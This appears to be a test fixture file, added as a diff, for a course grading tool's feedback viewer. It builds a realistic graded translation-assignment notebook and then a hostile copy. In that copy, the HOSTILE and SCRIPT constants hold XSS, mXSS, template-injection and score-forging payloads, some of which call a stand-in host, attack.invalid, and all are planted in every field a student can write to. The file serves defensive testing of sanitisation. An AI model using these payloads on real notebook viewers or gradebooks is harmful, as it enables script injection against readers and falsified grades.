@@ -1,0 +1,183 @@
+"""A graded submission as the feedback room meets it, in an honest and in a hostile variant."""
+
+import base64
+
+import numpy as np
+import pytest
+from nbformat import NotebookNode, v4
+
+from kireji.feedback import pictures
+from kireji.feedback.view import Grade, Gradebook
+
+SOURCE = "je ne parle pas bien anglais . </s>".split()
+TARGET = "i don't speak english well . </s>".split()
+LINKS = [0, 1, 2, 5, 4, 6, 7]   # the source word that each target word comes from
+
+
+def attention(sharpness: float, links: list[int], seed: int = 0) -> np.ndarray:
+    """A made-up map (T_tgt, T_src) that looks at `links`, each row summing to 1."""
+    scores = np.random.default_rng(seed).normal(0, 0.6, (len(TARGET), len(SOURCE)))
+    scores[np.arange(len(TARGET)), links] += sharpness
+    weights = np.exp(scores)
+    return weights / weights.sum(1, keepdims=True)
+
+
+def image(png: bytes, caption: str) -> dict:
+    return {"caption": caption, "png": base64.b64encode(png).decode("ascii")}
+
+
+def hidden(title: str, fraction: float = 1.0, weight: float = 1.0, message: str = "", status: str = "",
+           images: tuple = ()) -> dict:
+    """One test of the report."""
+    status = status or ("passed" if fraction == 1 else "partly" if fraction else "failed")
+    return {"name": title.lower().replace(" ", "_"), "title": title, "status": status, "fraction": fraction,
+            "weight": weight, "message": message, "images": list(images)}
+
+
+def marks(grade_id: str, grade: bool, solution: bool, points: float | None = None) -> dict:
+    """nbgrader's metadata of a cell."""
+    locked = not solution
+    kept = {"schema_version": 3, "grade_id": grade_id, "grade": grade, "solution": solution, "locked": locked, "task": False}
+    return {"nbgrader": kept if points is None else {**kept, "points": points}}
+
+
+def answer(task: str, source: str, outputs: tuple = ()) -> NotebookNode:
+    return v4.new_code_cell(source, metadata=marks(f"{task}_solution", False, True), outputs=list(outputs))
+
+
+def graded(task: str, points: float, outputs: tuple = ()) -> NotebookNode:
+    return v4.new_code_cell("# hidden tests look here", metadata=marks(task, True, False, points), outputs=list(outputs))
+
+
+def written(task: str, points: float, source: str) -> NotebookNode:
+    return v4.new_markdown_cell(source, metadata=marks(task, True, True, points))
+
+
+def figure() -> bytes:
+    """A picture as a student's notebook would draw it."""
+    steps = np.arange(60)
+    return pictures.line_chart({"train": (steps, 4 * np.exp(-steps / 18) + 1), "validation": (steps, 3.6 * np.exp(-steps / 22) + 1.5)},
+                               "Loss while training", "step (x 100)", "loss per token")
+
+
+PADDING = '''def padding_mask(lengths: torch.Tensor, max_length: int) -> torch.Tensor:
+    """True where a token is real.
+
+    lengths (B,)   Returns mask (B, max_length)."""
+    positions = torch.arange(max_length)            # (max_length,)
+    return positions[None, :] < lengths[:, None]    # (B, max_length)
+'''
+
+ADDITIVE = '''class AdditiveAttention(nn.Module):
+    def __init__(self, query_size, key_size, hidden_size):
+        super().__init__()
+        self.W_query = nn.Linear(query_size, hidden_size, bias=False)
+        self.W_key = nn.Linear(key_size, hidden_size, bias=False)
+        self.v = nn.Linear(hidden_size, 1, bias=False)
+
+    def forward(self, query, key, value, mask=None):
+        scores = self.v(torch.tanh(self.W_query(query).unsqueeze(2) + self.W_key(key).unsqueeze(1))).squeeze(-1)
+        weights = scores.softmax(-1)
+        if mask is not None:
+            weights = weights * mask.unsqueeze(1)  # padding off
+        return weights @ value, weights
+'''
+
+
+@pytest.fixture
+def honest() -> tuple[NotebookNode, Gradebook]:
+    """A notebook with typical mistakes, its report, and the gradebook's numbers for it."""
+    yours, reference = attention(2.6, [0, 1, 2, 3, 4, 6, 7], 1), attention(5, LINKS, 2)
+    comparison = image(pictures.attention_comparison(yours, reference, SOURCE, TARGET), "\u201cje ne parle pas bien anglais .\u201d: rows are the words your model wrote")
+    second = image(pictures.attention_comparison(attention(4.5, LINKS, 3), attention(5, LINKS, 4), SOURCE, TARGET), "The same sentence from a model of the course")
+    mask = np.arange(6)[None] < np.array([2, 4, 6])[:, None]
+    cells = {
+        "padding_mask": (4, [hidden("Real tokens are True, padding is False"), hidden("Works for a single sentence", weight=0.5)]),
+        "additive_attention": (14, [
+            hidden("The context is the weighted mean of the values", weight=2),
+            hidden("A masked key gets exactly zero weight", weight=2),
+            hidden("Every row of weights sums to one", 0, 2, "With padding in the batch, rows sum to 0.61 on average instead of 1.\nIs the mask applied after the softmax? Set masked scores to -inf before it.",
+                   images=[image(pictures.tensor_comparison(attention(1, LINKS)[:3, :6].round(2), mask, "Weights of the smallest failing batch"), "The smallest batch that fails: lengths 2, 4 and 6")]),
+            hidden("The input is left unchanged")]),
+        "encoder": (12, [hidden("Padding changes nothing"), hidden("Shapes are (B, T_src, 2 * hidden_size) and (B, hidden_size)")]),
+        "decoder": (16, [
+            hidden("One step agrees with the reference", weight=3),
+            hidden("The context reaches the logits", 0, 2, "RuntimeError on line 14: mat1 and mat2 shapes cannot be multiplied (5x48 and 32x96)", "error"),
+            hidden("No state is kept between calls", 0, 1, "The answer took longer than 10 s.", "timeout")]),
+        "sequence_loss": (6, [hidden("Only real tokens count")]),
+        "train_step": (8, [hidden("The loss goes down"), hidden("Gradients are clipped")]),
+        "decoding": (12, [hidden("Greedy decoding stops at the end token"), hidden("Beam search is never worse than greedy", 0, 1, "beam_decode is not defined. Was the cell removed, or does an earlier cell fail?", "missing")]),
+        "translation": (16, [
+            hidden("BLEU on held-out sentences", 0.74, 3, "BLEU 30.5 on 200 sentences that nobody trained on.", images=[image(pictures.metric(30.5, 23.4, 33, "BLEU"), "")]),
+            hidden("chrF on held-out sentences", 1, 1, "chrF 48.9.", images=[image(pictures.metric(48.9, 38, 47, "chrF"), "")])]),
+        "alignment": (6, [hidden("Names and numbers look at themselves", 0.8, 1, "16 of 20 words.", images=[comparison, second])]),
+    }
+    sources = {"padding_mask": PADDING, "additive_attention": ADDITIVE}
+    figures = v4.new_output("display_data", data={"image/png": base64.b64encode(figure()).decode("ascii"), "text/plain": "<Figure size 640x480>"})
+    notebook = v4.new_notebook(cells=[v4.new_markdown_cell("# A translation model that looks back\nWhy one vector is not enough.")])
+    report, grades = [], {}
+    for task, (points, tests) in cells.items():
+        outputs = [v4.new_output("stream", name="stdout", text="epoch 12  loss 1.42\nvalidation BLEU 30.1\n"), figures] if task == "train_step" else []
+        notebook.cells += [v4.new_markdown_cell(f"## {task}"), answer(task, sources.get(task, f"def {task}(*arguments):\n    return arguments\n"), outputs), graded(task, points)]
+        earned = round(points * sum(test["fraction"] * test["weight"] for test in tests) / sum(test["weight"] for test in tests), 2)
+        report.append({"grade_id": task, "score": earned, "max_score": points, "tests": tests})
+        grades[task] = Grade(earned, points, auto_score=earned)
+    notebook.cells.append(written("failure_analysis", 6, "The model writes *the the* for **rare** names.\n\n- its attention is flat there\n- so the context is a mean of everything\n\nSee [the paper](https://arxiv.org/abs/1409.0473)."))
+    report.append({"grade_id": "failure_analysis", "score": None, "max_score": 6, "tests": []})
+    grades["failure_analysis"] = Grade(0, 6, waiting=True)
+    notebook.metadata["kireji"] = {"assignment": "ex1_translation", "cells": report, "notices": ["Left out at intake: notes.txt (only the notebook and *.safetensors are graded)."]}
+    score = sum(grade.score for grade in grades.values())
+    comments = {"additive_attention_solution": "Clean code. Look at *where* the mask goes."}
+    return notebook, Gradebook(score, 100, 0, grades, comments)
+
+
+SCRIPT = "<script>document.documentElement.dataset.owned='yes';fetch('http://attack.invalid/')</script>"
+STYLE = "<style>.score,.points,.kj-points,input{display:none!important}body{opacity:0}</style>"
+HOSTILE = "\n\n".join([
+    SCRIPT, STYLE, "<img src=x onerror=\"document.documentElement.dataset.owned='yes'\">", "![x](http://attack.invalid/pixel.png)",
+    "[click](javascript:document.documentElement.dataset.owned='yes')", "<svg onload=\"document.documentElement.dataset.owned='yes'\"></svg>",
+    "<math><mtext></mtext><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\"></mglyph></math>",
+    "<iframe srcdoc=\"" + SCRIPT.replace('"', "&quot;") + "\"></iframe>", "<form action=http://attack.invalid><input name=a><button>b</button></form>",
+    "<a href='data:text/html," + SCRIPT.replace("'", "") + "'>d</a>", "<div style='position:fixed;inset:0;background:white'>100 / 100</div>",
+    "</section></main></body>" + SCRIPT, "<p id=additive_attention class=score>x</p>", "<link rel=stylesheet href=http://attack.invalid/a.css>",
+    "<meta http-equiv=refresh content='0;url=http://attack.invalid/'>", "<base href=http://attack.invalid/>",
+    "$\\href{javascript:alert(1)}{x}$", "{{ 7 * 7 }} {% include 'page.html' %}"])
+
+
+@pytest.fixture
+def hostile(honest: tuple[NotebookNode, Gradebook]) -> tuple[NotebookNode, Gradebook]:
+    """The same submission with attacks on whoever reads it, in every place a student or their kernel can write to."""
+    notebook, gradebook = honest
+    attack = SCRIPT + STYLE
+    outputs = [
+        NotebookNode(output_type="display_data", data={"text/html": attack, "text/plain": attack}, metadata={}),
+        NotebookNode(output_type="execute_result", execution_count=attack, data={"application/javascript": "document.documentElement.dataset.owned='yes'", "text/latex": attack}, metadata={}),
+        NotebookNode(output_type="display_data", data={"image/svg+xml": f"<svg>{attack}</svg>", "application/vnd.jupyter.widget-view+json": {"model_id": attack}}, metadata={}),
+        NotebookNode(output_type="display_data", data={"image/png": base64.b64encode(figure()).decode("ascii")}, metadata={"image/png": {"width": "1 onerror=document.documentElement.dataset.owned='yes' src=x", "alt": attack}}),
+        NotebookNode(output_type="display_data", data={"image/png": '"><img src=x onerror="document.documentElement.dataset.owned=1">', "text/markdown": attack}, metadata={}),
+        NotebookNode(output_type="stream", name=attack, text=f"\x1b]0;owned\x07\x1b[8m{attack}\u202e"),
+        NotebookNode(output_type="error", ename=attack, evalue=attack, traceback=[attack, "\x1b[31m" + attack]),
+    ]
+    for cell in notebook.cells:
+        if cell.cell_type == "code":
+            cell.execution_count = attack
+            cell.metadata["tags"] = [attack, "\"><script>"]
+            if cell.metadata.nbgrader.solution:
+                cell.source = f"'''{attack}</pre></code>'''\n# {attack}\n" + cell.source
+                cell.outputs = outputs
+        elif cell.metadata.get("nbgrader"):
+            cell.source = HOSTILE
+            cell["attachments"] = {"x.png": {"image/svg+xml": attack}}
+    notebook.cells.insert(3, v4.new_markdown_cell(HOSTILE, id="extra"))
+    notebook.cells.insert(3, v4.new_raw_cell(attack, metadata={"raw_mimetype": "text/html"}))
+    notebook.metadata["title"] = attack
+    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": attack}}
+    notebook.metadata["language_info"] = {"name": attack, "pygments_lexer": attack}
+    for record in notebook.metadata["kireji"]["cells"]:
+        for test in record["tests"]:
+            test["message"] += attack
+            test["title"] += attack
+            for picture in test["images"]:
+                picture["caption"] = '" onerror="document.documentElement.dataset.owned=1' + attack
+    notebook.metadata["kireji"]["notices"].append(attack)
+    return notebook, gradebook
